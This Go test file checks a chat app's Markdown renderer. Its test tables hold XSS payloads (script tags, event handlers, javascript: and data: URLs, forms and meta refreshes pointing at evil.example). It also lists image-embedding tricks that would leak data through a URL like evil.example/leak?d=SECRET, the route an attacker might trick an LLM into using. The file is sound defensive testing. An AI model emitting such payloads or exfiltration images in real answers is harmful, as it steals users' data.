// Tests for rendering answers: Markdown becomes HTML, and whatever an LLM is talked into
// writing cannot run in the page.

package chat

import (
	"regexp"
	"strings"
	"testing"
)

func TestMarkdownRendersTheUsualThings(t *testing.T) {
	md := NewMarkdown()
	tests := []struct {
		name, source string
		want         []string
	}{
		{"emphasis", "**bold** and _italic_", []string{"<strong>bold</strong>", "<em>italic</em>"}},
		{"a list", "- one\n- two", []string{"<ul>", "<li>one</li>", "<li>two</li>"}},
		{"a numbered list", "1. first\n2. second", []string{"<ol>", "<li>first</li>"}},
		{"a table", "| a | b |\n| --- | --- |\n| 1 | 2 |", []string{"<table>", "<th>a</th>", "<td>2</td>"}},
		{"code", "```go\nfmt.Println(\"<b>\")\n```", []string{"<pre><code>", "fmt.Println(&#34;&lt;b&gt;&#34;)"}},
		{"inline code", "use `go test`", []string{"<code>go test</code>"}},
		{"strikethrough", "~~old~~", []string{"<del>old</del>"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			html, err := md.Render(tt.source)
			if err != nil {
				t.Fatal(err)
			}
			for _, want := range tt.want {
				if !strings.Contains(string(html), want) {
					t.Errorf("Render(%q) = %q, want it to contain %q", tt.source, html, want)
				}
			}
		})
	}
}

func TestLinksOpenSafely(t *testing.T) {
	html, err := NewMarkdown().Render("See [the docs](https://go.dev/doc) or https://example.com.")
	if err != nil {
		t.Fatal(err)
	}
	links := strings.Count(string(html), "<a ")
	if links != 2 {
		t.Fatalf("Render = %q, want 2 links (one written, one bare)", html)
	}
	for _, want := range []string{`target="_blank"`, "nofollow", "noopener", "noreferrer"} {
		if strings.Count(string(html), want) != links {
			t.Errorf("Render = %q: not every link has %s", html, want)
		}
	}
}

// TestHostileMarkdownIsSanitised feeds in what an attacker might get an LLM to write.
func TestHostileMarkdownIsSanitised(t *testing.T) {
	md := NewMarkdown()
	tests := []struct {
		name, source string
		forbidden    []string // none of these may be in the HTML, in any case
	}{
		{"a script", "Hi <script>alert(1)</script>", []string{"<script"}},
		{"an event handler", `<img src="x" onerror="alert(1)">`, []string{"onerror"}},
		{"a javascript: link", "[click](javascript:alert(1))", []string{"javascript:"}},
		{"a javascript: link in HTML", `<a href="javascript:alert(1)">click</a>`, []string{"javascript:"}},
		{"an encoded javascript: link", "[click](jav&#x61;script:alert(1))", []string{"script:"}},
		{"a data: URL", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", []string{"data:"}},
		{"an iframe", `<iframe src="https://evil.example"></iframe>`, []string{"<iframe"}},
		{"a style", `<style>body{display:none}</style><p style="position:fixed">x</p>`, []string{"<style", "style="}},
		{"a form", `<form action="https://evil.example"><input name="password"></form>`, []string{"<form", "<input"}},
		{"an svg", `<svg onload="alert(1)"><circle r="1"/></svg>`, []string{"<svg", "onload"}},
		{"a handler in a link", `<a href="https://example.com" onclick="alert(1)">x</a>`, []string{"onclick"}},
		{"a meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`, []string{"<meta"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			html, err := md.Render(tt.source)
			if err != nil {
				t.Fatal(err)
			}
			for _, bad := range tt.forbidden {
				if strings.Contains(strings.ToLower(string(html)), strings.ToLower(bad)) {
					t.Errorf("Render(%q) = %q, which contains %q", tt.source, html, bad)
				}
			}
		})
	}
}

// TestImagesInAnswersAreNeverLoaded feeds in every way an LLM could be talked into showing
// an image: a remote image would make the browser send its URL, with whatever data the
// LLM packed into it, to another site as soon as the answer shows.
func TestImagesInAnswersAreNeverLoaded(t *testing.T) {
	// A tag that makes the browser fetch something without a click (text that merely
	// reads "<img" is escaped as &lt;img, and is not a tag).
	loadsSomething := regexp.MustCompile(`(?i)<(img|image|picture|source|video|audio|object|embed|iframe)\b|<[^>]*\s(src|srcset|poster|style|background)\s*=`)
	md := NewMarkdown()
	const leak = "https://evil.example/leak?d=SECRET"
	tests := []struct {
		name, source string
		want         string // what the visitor sees instead, if anything in particular
	}{
		{"a Markdown image", "![chart](" + leak + ")", `<a href="https://evil.example/leak?d=SECRET"`},
		{"its alt text is shown", "![the chart](" + leak + ")", ">the chart</a>"},
		{"no alt text shows the address", "![](" + leak + ")", ">https://evil.example/leak?d=SECRET</a>"},
		{"a title", `![x](` + leak + ` "title")`, ""},
		{"a reference-style image", "![x][pic]\n\n[pic]: " + leak, ""},
		{"a collapsed reference", "![pic][]\n\n[pic]: " + leak, ""},
		{"a shortcut reference", "![pic]\n\n[pic]: " + leak, ""},
		{"an image in angle brackets", "![x](<" + leak + ">)", ""},
		{"raw <img> HTML", `<img src="` + leak + `">`, ""},
		{"raw <img> inline", `Look: <img src="` + leak + `"> here`, ""},
		{"srcset", `<img srcset="` + leak + ` 1x" src="/static/favicon.svg">`, ""},
		{"a picture element", `<picture><source srcset="` + leak + `"><img src="/x.png"></picture>`, ""},
		{"an image in a link", "[![x](" + leak + ")](https://example.com)", ">x</a>"},
		{"an image in an autolink's place", "<" + leak + ">", ""},
		{"a bare URL to an image", leak + ".png", ""},
		{"a data: image", "![x](data:image/png;base64,iVBORw0KGgo=)", ""},
		{"a data: SVG", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", ""},
		{"a javascript: image", "![x](javascript:alert(1))", ""},
		{"a relative image", "![x](/static/favicon.svg)", ""},
		{"a protocol-relative image", "![x](//evil.example/leak.png)", ""},
		{"an image in a table", "| a |\n| --- |\n| ![x](" + leak + ") |", ""},
		{"an image in a list", "- ![x](" + leak + ")", ""},
		{"an image in a heading", "# ![x](" + leak + ")", ""},
		{"an image in emphasis", "**![x](" + leak + ")**", ""},
		{"an image inside an image", "![![y](" + leak + ")](" + leak + ")", ""},
		{"an HTML-escaped img", "&lt;img src=" + leak + "&gt;", ""},
		{"an SVG image element", `<svg><image href="` + leak + `"/></svg>`, ""},
		{"a CSS background", `<div style="background:url(` + leak + `)">x</div>`, ""},
		{"a video poster", `<video poster="` + leak + `"></video>`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			html, err := md.Render(tt.source)
			if err != nil {
				t.Fatal(err)
			}
			if found := loadsSomething.FindString(string(html)); found != "" {
				t.Errorf("Render(%q) = %q, which has %q: the browser would load it", tt.source, html, found)
			}
			if tt.want != "" && !strings.Contains(string(html), tt.want) {
				t.Errorf("Render(%q) = %q, want it to contain %q", tt.source, html, tt.want)
			}
		})
	}
}
